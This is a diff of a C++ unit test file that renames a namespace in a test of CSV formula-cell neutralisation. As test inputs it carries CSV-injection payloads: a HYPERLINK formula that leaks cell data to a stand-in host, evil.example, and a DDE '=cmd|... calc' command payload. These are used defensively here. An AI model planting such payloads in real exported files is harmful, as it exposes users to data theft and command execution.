@@ -143,8 +143,8 @@ TEST(DirLock, AHolderThatIsGoneIsWaitedForNotReported) {
 }
 
 TEST(SweepCsv, FormulaCellsAreNeutralisedAndReadBack) {
-  using sharding::csv_cell;
-  using sharding::csv_uncell;
+  using experiments::csv_cell;
+  using experiments::csv_uncell;
   for (const std::string v : {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd", "-2+3", "@SUM(A1)",
                               "\tx", "\rx", "=1", "'=x", "''+y"}) {
     EXPECT_EQ(csv_cell(v), "'" + v) << v;
@@ -154,15 +154,15 @@ TEST(SweepCsv, FormulaCellsAreNeutralisedAndReadBack) {
     EXPECT_EQ(csv_cell(v), v) << v;
     EXPECT_EQ(csv_uncell(csv_cell(v)), v) << v;
   }
-  sharding::Row row;
-  for (const auto& c : sharding::result_columns()) row[c] = "";
+  experiments::Row row;
+  for (const auto& c : experiments::result_columns()) row[c] = "";
   row["key"] = "k";
   row["topology"] = "=cmd|' /C calc'!A0";
   row["sim_time_us"] = "-0.5";
-  const std::string text = sharding::csv_header() + sharding::csv_row(row);
+  const std::string text = experiments::csv_header() + experiments::csv_row(row);
   EXPECT_NE(text.find(",'=cmd|' /C calc'!A0,"), std::string::npos) << text;
   EXPECT_NE(text.find(",-0.5,"), std::string::npos) << text;
-  const auto rows = sharding::parse_csv(text, "r.csv");
+  const auto rows = experiments::parse_csv(text, "r.csv");
   ASSERT_EQ(rows.size(), 1u);
   EXPECT_EQ(rows[0].at("topology"), "=cmd|' /C calc'!A0");
 }
